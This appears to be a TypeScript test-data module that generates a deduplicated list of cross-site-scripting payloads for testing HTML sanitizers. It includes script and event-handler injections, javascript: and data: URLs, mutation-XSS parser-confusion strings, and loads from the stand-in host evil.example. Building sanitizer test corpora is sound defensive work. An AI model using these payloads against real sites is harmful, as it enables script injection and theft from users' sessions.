/** Words that want to become a program or to fetch from strangers; each calls `trap()` or names `evil.example`. */
const programs: readonly string[] = [
  "<script>trap()</script>",
  "<ScRiPt>trap()</sCrIpT>",
  "<script/x>trap()</script\n>",
  "<script src=//evil.example/trap.js></script>",
  "<script type=module>trap()</script>",
  "<img src=//evil.example/trap.png>",
  "<img srcset='//evil.example/trap.png 1x'>",
  "<picture><source srcset=//evil.example/trap.png><img></picture>",
  "<input type=image src=//evil.example/trap.png>",
  "<table background=//evil.example/trap.png><td background=//evil.example/trap.png>x</table>",
  "<div style='background:url(//evil.example/trap.png)'>x</div>",
  '<p style="animation:trap 1s" onanimationstart=trap()>x</p>',
  "<style>@import '//evil.example/trap.css';</style>",
  "<style>@keyframes trap{}</style><b style=animation-name:trap onanimationstart=trap()>x</b>",
  "<link rel=stylesheet href=//evil.example/trap.css>",
  "<link rel=prefetch href=//evil.example/trap>",
  "<meta http-equiv=refresh content='9;url=//evil.example/trap'>",
  "<base href=//evil.example/trap/>",
  "<iframe src=//evil.example/trap></iframe>",
  "<iframe srcdoc='<script>parent.trap()</script>'></iframe>",
  "<iframe srcdoc='&lt;img src=x: onerror=parent.trap()&gt;'></iframe>",
  "<object data=//evil.example/trap></object>",
  "<embed src=//evil.example/trap>",
  "<applet code=//evil.example/trap></applet>",
  "<frameset onload=trap()><frame src=//evil.example/trap></frameset>",
  "<portal src=//evil.example/trap></portal>",
  "<video poster=//evil.example/trap.png></video>",
  "<audio src=//evil.example/trap.mp3 autoplay></audio>",
  "<track src=//evil.example/trap.vtt>",
  "<form action=//evil.example/trap><button>x</button></form>",
  "<form id=trap><input name=attributes><input name=innerHTML></form>",
  "<a id=trap name=trap href=//evil.example/trap>x</a>",
  "<details open ontoggle=trap()>x</details>",
  "<dialog open onclose=trap()>x</dialog>",
  "<div popover id=t onbeforetoggle=trap()>x</div><button popovertarget=t>x</button>",
  "<math><maction actiontype=statusline xlink:href=javascript:trap()>x</maction></math>",
  "<svg><script>trap()</script></svg>",
  "<svg><script href=data:text/javascript,trap() /></svg>",
  "<svg><animate onbegin=trap() attributeName=x dur=1s>",
  "<svg><set onbegin=trap() attributeName=x dur=1s>",
  "<svg><a><animate attributeName=href values=javascript:trap() /><text y=20>x</text></a></svg>",
  "<svg><use href='data:image/svg+xml,<svg id=x onload=trap()>#x'/></svg>",
  "<svg><image href=//evil.example/trap.png></svg>",
  "<svg><feImage href=//evil.example/trap.png></svg>",
  "<svg><foreignObject><img src=x: onerror=trap()></foreignObject></svg>",
  "<svg><style>@import '//evil.example/trap.css'</style></svg>",
  "<svg><desc><img src=x: onerror=trap()></desc></svg>",
  "<svg><title><img src=x: onerror=trap()></title></svg>",
];

/** Forms that one parser reads as words and the next as a program. */
const changelings: readonly string[] = [
  "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x: onerror=trap()&gt;'>",
  "<math><mtext><table><mglyph><style><math><img src=x: onerror=trap()></style></table>",
  "<form><math><mtext></form><form><mglyph><style></math><img src=x: onerror=trap()>",
  "<svg></p><style><a id='</style><img src=x: onerror=trap()>'>",
  "<svg><p><style><img src='</style><img src=x: onerror=trap()//'>",
  "<svg><style>/*</style><img src=x: onerror=trap()>*/</style></svg>",
  "<noscript><p title='</noscript><img src=x: onerror=trap()>'></noscript>",
  "<noembed><p title='</noembed><img src=x: onerror=trap()>'></noembed>",
  "<noframes><p title='</noframes><img src=x: onerror=trap()>'></noframes>",
  "<xmp><p title='</xmp><img src=x: onerror=trap()>'></xmp>",
  "<listing>&lt;img src=x: onerror=trap()&gt;</listing>",
  "<plaintext><img src=x: onerror=trap()>",
  "<template><img src=x: onerror=trap()></template>",
  "<template><script>trap()</script></template>",
  "<div><template shadowrootmode=open><img src=x: onerror=trap()></template></div>",
  "<select><template><img src=x: onerror=trap()></template></select>",
  "<select><style></select><img src=x: onerror=trap()></style>",
  "<select><iframe></select><img src=x: onerror=trap()>",
  "<table><caption><svg><title><table><caption></title><style><img src=x: onerror=trap()></style>",
  "<title>&lt;img src=x: onerror=trap()&gt;</title>",
  "<textarea>&lt;/textarea&gt;&lt;img src=x: onerror=trap()&gt;</textarea>",
  "<style><style/><img src=x: onerror=trap()>",
  "<style><!--</style><img src=x: onerror=trap()>-->",
  "<!--><img src=x: onerror=trap()>-->",
  "<!---><img src=x: onerror=trap()>-->",
  "<!-- --!><img src=x: onerror=trap()>-->",
  "<![CDATA[><img src=x: onerror=trap()>]]>",
  "<svg><![CDATA[><img src=x: onerror=trap()>]]></svg>",
  "<?xml version=1><img src=x: onerror=trap()>?>",
  "</><img src=x: onerror=trap()>",
  "<//><img src=x: onerror=trap()>",
  "<a/b='><img src=x: onerror=trap()>'>x</a>",
  "<p title=`><img src=x: onerror=trap()>`>",
  "<b <script>trap()</script>x</b>",
  "<<p>img src=x: onerror=trap()>",
  "<img<img src=x: onerror=trap()>",
  "<scr<b>ipt>trap()</scr</b>ipt>",
  "<im<b></b>g src=x: onerror=trap()>",
  "&lt;img src=x: onerror=trap()&gt;",
  "&amp;lt;img src=x: onerror=trap()&amp;gt;",
  "&#60;img src=x: onerror=trap()&#62;",
  "\\u003cimg src=x: onerror=trap()\\u003e",
  "\u2028</script><script>trap()</script>",
  "\ufeff<img src=x: onerror=trap()>",
  "＜img src=x: onerror=trap()＞",
  "<svg><b><style><img src=x: onerror=trap()></style></b></svg>",
  "<math><annotation-xml encoding=text/html><style><img src=x: onerror=trap()></style></annotation-xml></math>",
  "<math><mi><style></mi><img src=x: onerror=trap()></style></math>",
];

/** Elements that call a handler without anybody's doing, and the handler. */
const eager: readonly (readonly [string, string])[] = [
  ...(["<img src=x:", "<image src=x:", "<input type=image src=x:", "<object data=x:"] as const).map(
    (element) => [element, "onerror"] as const,
  ),
  ...(["<video src=x:", "<audio src=x:", "<video><source src=x:", "<script src=x:"] as const).map(
    (element) => [element, "onerror"] as const,
  ),
  ...(["<svg", "<body", "<iframe", "<style", "<svg><svg", "<math><svg"] as const).map(
    (element) => [element, "onload"] as const,
  ),
  ...(
    [
      "<input autofocus",
      "<select autofocus",
      "<textarea autofocus",
      "<b tabindex=1 autofocus",
      "<a href=# autofocus",
    ] as const
  ).map((element) => [element, "onfocus"] as const),
  ["<marquee", "onstart"],
];
/** Handlers that wait for somebody. */
const waiting = (
  "onclick onmouseover onmouseenter onpointerdown onpointerenter ontouchstart onkeydown oninput onchange onwheel " +
  "ondragstart oncopy onpaste onscroll ontransitionend onbeforeinput onauxclick oncontextmenu onselectstart onfocusin"
).split(" ");
const spellings: readonly ((element: string, handler: string) => string)[] = [
  (element, handler) => `${element} ${handler}=trap()>x`,
  (element, handler) => `${element}/${handler.toUpperCase()}="trap()">x`,
  (element, handler) => `${element}\n${handler}\t=\f'&#116;rap()'>x`,
  (element, handler) => `<p>${element} x="'" ${handler}=trap()//`,
];

/** Addresses that run instead of leading somewhere. */
const addresses: readonly string[] = [
  "javascript:trap()",
  "JaVaScRiPt:trap()",
  " javascript:trap()",
  "\u0001javascript:trap()",
  "java&#9;script:trap()",
  "java&#10;script:trap()",
  "java&Tab;script&colon;trap()",
  "&#106;avascript:trap()",
  "&#x6A;avascript&#58trap()",
  "&#0000106avascript:trap()",
  "javascript://https://example.org/%0atrap()",
  "data:text/html,<script>parent.trap()</script>",
  "data:text/html;base64,PHNjcmlwdD5wYXJlbnQudHJhcCgpPC9zY3JpcHQ+",
  "vbscript:trap()",
  "blob:trap()",
  "https:javascript:trap()//",
];
const carriers: readonly ((address: string) => string)[] = [
  (address) => `<a href="${address}">x</a>`,
  (address) => `<b href='${address}'><a title="https:" href='${address}'>x</a></b>`,
  (address) => `<iframe src="${address}"></iframe>`,
  (address) => `<svg><a xlink:href="${address}"><text y=20>x</text></a></svg>`,
  (address) => `<form><button formaction="${address}">x</button></form>`,
  (address) => `<object data="${address}"></object>`,
  (address) => `<math href="${address}">x</math>`,
];

/** What could close the place in which the words stand. */
const wayOut =
  '"> \'> `> --> ]]> } </title> </textarea> </script> </style> </template> </noscript> </xmp> </select> </p></div> </svg> </table> </iframe> */ \\"> &quot;>'.split(
    " ",
  );

export const payloads: readonly string[] = [
  ...new Set([
    ...programs,
    ...changelings,
    ...eager.flatMap(([element, handler]) => spellings.map((spelled) => spelled(element, handler))),
    ...waiting.map((handler) => `<b ${handler}=trap()>x</b>`),
    ...addresses.flatMap((address) => carriers.map((carried) => carried(address))),
    ...wayOut.map((end) => `${end}<img src=x: onerror=trap()>`),
    ...wayOut.map((end) => `${end} autofocus onfocus=trap() x=`),
  ]),
];
